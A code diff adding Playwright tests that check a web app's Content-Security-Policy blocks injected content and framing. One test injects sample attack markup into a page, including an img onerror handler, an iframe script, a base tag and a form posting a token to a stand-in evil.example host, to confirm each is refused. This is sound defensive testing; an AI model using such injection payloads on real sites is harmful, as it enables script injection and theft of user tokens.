@@ -1,7 +1,7 @@
 import type { APIResponse } from '@playwright/test';
 
 import { MEMBER } from '../support/demo.ts';
-import { expect, signIn, test } from '../support/fixtures.ts';
+import { expect, openPage, signIn, test } from '../support/fixtures.ts';
 
 /** Directives of a Content-Security-Policy by name. */
 function policyOf(answer: APIResponse): Map<string, string[]> {
@@ -55,6 +55,60 @@ for (const path of ['/sign-in', '/events', '/developer-zone', '/no-such-page']) 
 test('the nonce is another one for every answer', async ({ request }) => {
   const nonce = async () => policyOf(await request.get('/sign-in')).get('script-src')?.join(' ');
   expect(await nonce()).not.toBe(await nonce());
+});
+
+/** What the browser says of what it was kept from. */
+const REFUSALS = /CSP violation|Content Security Policy|Refused to|404 \(Not Found\)/;
+
+test('what somebody gets into a page is not run, styles nothing and sends nothing', async ({
+  page,
+  collector,
+  signIn,
+}) => {
+  collector.allow(REFUSALS);
+  await signIn(MEMBER);
+  await openPage(page, '/developer-zone');
+  await page.evaluate(() => {
+    const main = document.querySelector('main')!;
+    main.insertAdjacentHTML(
+      'beforeend',
+      `<style>main { display: none }</style>
+       <p id="styled" style="position: fixed">text</p>
+       <img src="x" onerror="document.title = 'run'">
+       <iframe srcdoc="<script>top.document.title = 'run'</script>"></iframe>
+       <base href="https://evil.example/">
+       <form id="stolen" method="post" action="https://evil.example/"><input name="token" value="x"></form>`,
+    );
+    const script = document.createElement('script');
+    script.textContent = "document.title = 'run'";
+    main.append(script);
+  });
+  const isSeen = (directive: string) =>
+    expect
+      .poll(() => collector.seen, directive)
+      .toContainEqual(expect.stringContaining(`CSP violation: ${directive} by`));
+  for (const directive of ['style-src-elem', 'style-src-attr', 'script-src-elem', 'script-src-attr', 'base-uri']) {
+    await isSeen(directive);
+  }
+  await expect(page.getByRole('main')).toBeVisible();
+  await expect(page.locator('#styled')).toHaveCSS('position', 'static');
+  await expect(page).not.toHaveTitle('run');
+  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
+  // Last, because Playwright waits for the navigation that a form begins, and this one never does.
+  await page.evaluate(() => document.querySelector<HTMLFormElement>('#stolen')!.submit());
+  await isSeen('form-action');
+  expect(new URL(page.url()).pathname).toBe('/developer-zone');
+});
+
+test('no page stands in another page’s frame', async ({ page, collector, server, signIn }) => {
+  collector.allow(REFUSALS);
+  await signIn(MEMBER);
+  for (const path of ['/sign-in', '/events', '/developer-zone', '/docs', '/no-such-page', '/healthz']) {
+    await page.goto('about:blank');
+    await page.setContent(`<iframe src="${server.url}${path}"></iframe>`);
+    const frame = page.frames()[1];
+    await expect.poll(() => frame?.url(), path).toBe('chrome-error://chromewebdata/');
+  }
 });
 
 test('what a server function answers is kept by no cache', async ({ request }) => {
